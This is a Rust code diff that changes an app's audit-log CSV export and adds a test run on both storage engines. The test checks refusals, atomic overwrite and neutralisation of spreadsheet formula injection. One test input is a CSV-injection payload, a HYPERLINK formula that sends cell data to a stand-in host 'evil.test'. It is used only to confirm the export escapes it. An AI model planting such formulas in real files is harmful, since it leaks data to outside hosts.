@@ -8,10 +8,11 @@ use crate::base::permission::Permission;
 use crate::kernel::acting_account;
 use crate::kernel::action::Action;
 use crate::kernel::audit::{
-    csv, query, verify, AuditEntry, AuditPage, AuditQuery, AuditVerification,
+    csv, query, verify, AuditEntry, AuditPage, AuditQuery, AuditRow, AuditVerification,
 };
 use crate::kernel::audit_chain;
 use crate::kernel::org::{Actor, Org};
+use crate::storage::engine::Sql;
 use crate::storage::files;
 use crate::storage::record_check;
 
@@ -57,33 +58,46 @@ impl Org {
     }
 
     /// Writes every entry matching the filters (all pages) as CSV to `dest`; the export is
-    /// itself recorded.
+    /// itself recorded. Cells that a spreadsheet would run as a formula are written as text
+    /// (`csv_cell`).
+    ///
+    /// The file is written last in the change, after its audit entry: on a server a
+    /// serialization failure runs the change again and writes the file again, and as each
+    /// write replaces `dest` whole (a temporary file renamed into place), the file left is the
+    /// one of the attempt that committed, read from its snapshot.
     pub fn export_audit_log(&mut self, actor: Actor, q: &AuditQuery, dest: &Path) -> Result<i64> {
-        self.change(actor, Action::AuditExport, |tx, ctx| {
-            let mut all = Vec::new();
-            let mut page = AuditQuery {
-                limit: 500,
-                before_id: None,
-                ..q.clone()
-            };
-            loop {
-                let p = query(tx, &page)?;
-                all.extend(p.entries);
-                match p.next_before_id {
-                    Some(id) => page.before_id = Some(id),
-                    None => break,
-                }
-            }
+        self.change_sql(actor, Action::AuditExport, |tx, ctx| {
+            let all = all_pages(tx, q)?;
             let head = audit_chain::head(tx)?;
-            files::write_atomically(dest, &csv(&all, &head)?)?;
+            let bytes = csv(&all, &head)?;
             let mut entry = AuditEntry::new(Action::AuditExport.key());
             entry.after = Some(
                 serde_json::json!({ "path": dest.display().to_string(), "entries": all.len() }),
             );
             ctx.audit(tx, &entry)?;
+            files::write_atomically(dest, &bytes)?;
             Ok(all.len() as i64)
         })
     }
+}
+
+/// Every entry matching the filters of `q`, newest first, read a page at a time.
+fn all_pages(db: Sql<'_>, q: &AuditQuery) -> Result<Vec<AuditRow>> {
+    let mut all = Vec::new();
+    let mut page = AuditQuery {
+        limit: 500,
+        before_id: None,
+        ..q.clone()
+    };
+    loop {
+        let p = query(db, &page)?;
+        all.extend(p.entries);
+        match p.next_before_id {
+            Some(id) => page.before_id = Some(id),
+            None => break,
+        }
+    }
+    Ok(all)
 }
 
 /// The Audit log page on both storage engines (docs/ARCHITECTURE.md §Server): the same
@@ -91,7 +105,7 @@ impl Org {
 #[cfg(all(test, feature = "server"))]
 mod on_both_engines {
     use super::*;
-    use crate::tests::engines::{ids, number, same_on_each_engine};
+    use crate::tests::engines::{chain_intact, ids, number, same_on_each_engine};
     use crate::tests::testing::sign_in;
     use crate::AssignLicense;
 
@@ -178,6 +192,142 @@ mod on_both_engines {
             );
             assert!(results[6].1.is_empty());
             results
+        });
+    }
+
+    /// The CSV's records (the chain head's last line apart), with the moments of the entries
+    /// after `start` blanked: those are each engine's own.
+    fn records(bytes: &[u8], start: i64) -> (Vec<Vec<String>>, String) {
+        let text = String::from_utf8(bytes.to_vec()).unwrap();
+        let (body, head) = text.trim_end().rsplit_once('\n').unwrap();
+        let mut rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(body.as_bytes())
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect();
+        for row in rows.iter_mut().skip(1) {
+            if row[0].parse::<i64>().unwrap() > start {
+                row[1].clear();
+            }
+        }
+        (rows, head.to_owned())
+    }
+
+    #[test]
+    fn the_log_is_exported_and_refused_the_same_on_both_engines() {
+        same_on_each_engine(|org, place| {
+            let engine = place.engine();
+            let admin = sign_in(org, "dana.reyes");
+            let it_admin = sign_in(org, "sam.okafor");
+            let start = number(org, "SELECT max(id) FROM audit_log", &[]);
+            // A login typed as a spreadsheet formula is recorded as typed.
+            let formula = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")";
+            org.sign_in(formula, "wrong-password").unwrap_err();
+            let user_id = ids(
+                org,
+                "SELECT u.id FROM users u WHERE NOT EXISTS
+                 (SELECT 1 FROM seats s WHERE s.user_id = u.id) ORDER BY u.id",
+            )[0];
+            let user = org.user(admin, user_id).unwrap();
+            let pid = number(org, "SELECT id FROM products WHERE name = 'Voice Pro'", &[]);
+            org.assign_license(admin, &AssignLicense::of(&user, pid))
+                .unwrap();
+
+            let dir = tempfile::tempdir().unwrap();
+            let dest = dir.path().join("audit.csv");
+            let entries = |org: &Org| number(org, "SELECT count(*) FROM audit_log", &[]);
+
+            // Refused: a role without audit.view (recorded), a filter that is no date (not
+            // recorded, naming its field); neither writes a file.
+            let before = entries(org);
+            let denied = org
+                .export_audit_log(it_admin, &AuditQuery::default(), &dest)
+                .unwrap_err();
+            let recorded = number(
+                org,
+                "SELECT count(*) FROM audit_log WHERE id = (SELECT max(id) FROM audit_log)
+                   AND action = 'audit.export' AND outcome = 'refused'",
+                &[],
+            );
+            assert_eq!((entries(org), recorded), (before + 1, 1), "{engine}");
+            let not_a_date = org
+                .export_audit_log(
+                    admin,
+                    &AuditQuery {
+                        from: "last Tuesday".into(),
+                        ..Default::default()
+                    },
+                    &dest,
+                )
+                .unwrap_err();
+            assert_eq!(entries(org), before + 1, "{engine}");
+            assert!(!dest.exists(), "{engine}");
+
+            // Written whole over an older file, ending with the head as it was; the export
+            // recorded after it.
+            std::fs::write(&dest, "an older export\n".repeat(10_000)).unwrap();
+            let (last_id, count) = (
+                number(org, "SELECT max(id) FROM audit_log", &[]),
+                entries(org),
+            );
+            let exported = org
+                .export_audit_log(admin, &AuditQuery::default(), &dest)
+                .unwrap();
+            let bytes = std::fs::read(&dest).unwrap();
+            let (rows, head) = records(&bytes, start);
+            assert_eq!(exported, count, "{engine}");
+            assert_eq!(rows.len() as i64, count + 1, "{engine}");
+            assert!(
+                head.contains(&format!("last_id={last_id} count={count} ")),
+                "{engine}: {head}"
+            );
+            let recorded = number(
+                org,
+                "SELECT count(*) FROM audit_log WHERE id = (SELECT max(id) FROM audit_log)
+                   AND action = 'audit.export' AND outcome = 'ok'",
+                &[],
+            );
+            assert_eq!((entries(org), recorded), (count + 1, 1), "{engine}");
+            assert_eq!(
+                std::fs::read_dir(dir.path()).unwrap().count(),
+                1,
+                "{engine}"
+            );
+
+            // No cell is a live formula: the typed login comes back with its apostrophe.
+            assert!(
+                rows.iter()
+                    .flatten()
+                    .all(|cell| !crate::base::csv_cell::is_live_formula(cell)),
+                "{engine}"
+            );
+            assert!(
+                rows.iter().any(|r| r[2] == format!("'{formula}")),
+                "{engine}: {rows:?}"
+            );
+
+            // Filtered: only the assignment, as on the page.
+            let filtered = dir.path().join("assign.csv");
+            let assignments = org
+                .export_audit_log(
+                    admin,
+                    &AuditQuery {
+                        action: "ASSIGN".into(),
+                        target_user_id: Some(user_id),
+                        ..Default::default()
+                    },
+                    &filtered,
+                )
+                .unwrap();
+            let (assign_rows, _) = records(&std::fs::read(&filtered).unwrap(), start);
+            assert_eq!((assignments, assign_rows.len()), (1, 2), "{engine}");
+            assert!(chain_intact(org), "{engine}");
+            (
+                (denied.code(), not_a_date.code(), not_a_date.payload().field),
+                rows,
+                assign_rows,
+            )
         });
     }
 }
